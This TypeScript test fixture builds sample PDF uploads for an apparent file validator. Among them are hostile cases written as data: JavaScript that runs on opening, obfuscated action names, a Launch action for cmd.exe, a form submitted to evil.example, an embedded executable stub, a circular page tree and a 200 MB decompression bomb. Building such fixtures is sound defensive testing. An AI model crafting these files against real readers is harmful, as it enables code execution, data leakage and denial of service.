import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";

type Finding = "fine" | "kind" | "unreadable" | "locked" | "active";
type Sample = { description: string; name: string; finding: Finding; bytes: () => Promise<Buffer> };

/** A PDF of one page with a text. */
export async function pdf(text = "Curriculum vitae"): Promise<Buffer> {
  return saved(await sheet(text));
}

const script = "app.alert('1')";

/** Files declared as PDF, each with its actual content. */
export const samples: Sample[] = [
  sample("a plain PDF", "fine", () => pdf()),
  sample("a PDF without object streams", "fine", async () => saved(await sheet("Plain"), false)),
  sample("a PDF that everybody may read and nobody change", "fine", () => encrypted({ ownerPassword: "x" })),
  sample("a text that names JavaScript", "fine", () => pdf("(HTML/CSS/JavaScript) /JS /Launch")),
  sample("a PDF behind a password", "locked", () => encrypted({ ownerPassword: "x", userPassword: "y" })),
  sample("an empty file", "kind", async () => Buffer.alloc(0)),
  sample("HTML", "kind", async () => Buffer.from("<!doctype html><script>alert(1)</script>")),
  sample("HTML with a PDF behind it", "kind", async () => Buffer.concat([Buffer.from("<b>"), await pdf()])),
  sample("an image", "kind", async () => Buffer.from("\x89PNG\r\n\x1a\n%PDF-1.7", "latin1")),
  sample("the first line alone", "unreadable", async () => Buffer.from("%PDF-1.7\n")),
  sample("HTML behind the first line", "unreadable", async () =>
    Buffer.from("%PDF-1.7\n<!doctype html><script>alert(1)</script>"),
  ),
  sample("one that was cut off", "unreadable", async () => cut(await pdf("x".repeat(5000)))),
  sample("one without pages", "unreadable", async () => saved(await PDFDocument.create())),
  sample("one whose pages lead in a circle", "unreadable", circle),
  sample("ten thousand open brackets", "unreadable", () => raw("[".repeat(10_000))),
  sample("an object stream of 200 MB", "unreadable", bomb),
  sample("a program that runs at opening", "active", async () => {
    const file = await sheet();
    file.addJavaScript("main", script);
    return saved(file);
  }),
  sample("a program whose name is spelt otherwise", "active", () =>
    raw(`<< /S /J#61vaScript /#4aS (${script}) >>`),
  ),
  sample("a program on a page", "active", async () => {
    const file = await sheet();
    const action = file.context.obj({ S: "JavaScript", JS: PDFString.of(script) });
    file.getPage(0).node.set(PDFName.of("AA"), file.context.obj({ O: action }));
    return saved(file);
  }),
  sample("a program behind an older version of itself", "active", async () =>
    Buffer.from(
      (await pdf())
        .toString("latin1")
        .replace(
          /startxref/,
          `90 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n90 0 obj\n<< >>\nendobj\nstartxref`,
        ),
      "latin1",
    ),
  ),
  sample("one that starts another program", "active", () => raw("<< /S /Launch /F (cmd.exe) >>")),
  sample("a form that is sent somewhere", "active", () =>
    raw("<< /S /SubmitForm /F (https://evil.example) >>"),
  ),
  sample("a file inside", "active", async () => {
    const file = await sheet();
    await file.attach(Buffer.from("MZ"), "setup.exe");
    return saved(file);
  }),
];

function sample(description: string, finding: Finding, bytes: Sample["bytes"]): Sample {
  return { description, finding, bytes, name: "cv.pdf" };
}

async function sheet(text = "Bonjour"): Promise<PDFDocument> {
  const file = await PDFDocument.create();
  file.addPage().drawText(text, { maxWidth: 500 });
  return file;
}

async function saved(file: PDFDocument, useObjectStreams = true): Promise<Buffer> {
  return Buffer.from(await file.save({ useObjectStreams, addDefaultPage: false }));
}

async function encrypted(passwords: { ownerPassword: string; userPassword?: string }): Promise<Buffer> {
  const file = await sheet();
  file.encrypt({ permissions: {}, ...passwords });
  return saved(file, false);
}

const cut = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2));

/** A PDF with one more object, given as raw text. */
async function raw(object: string): Promise<Buffer> {
  const whole = (await saved(await sheet(), false)).toString("latin1");
  return Buffer.from(whole.replace(/\nxref/, `\n90 0 obj\n${object}\nendobj\nxref`), "latin1");
}

async function circle(): Promise<Buffer> {
  const file = await sheet();
  const pages = file.catalog.Pages();
  const self = file.catalog.get(PDFName.of("Pages"));
  if (self) pages.Kids().push(self as never);
  return saved(file);
}

async function bomb(): Promise<Buffer> {
  const unpacked = deflateSync(deflateSync(Buffer.alloc(200 * 1024 * 1024)));
  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${unpacked.length} >>`;
  return raw(`${head}\nstream\n${unpacked.toString("latin1")}\nendstream`);
}
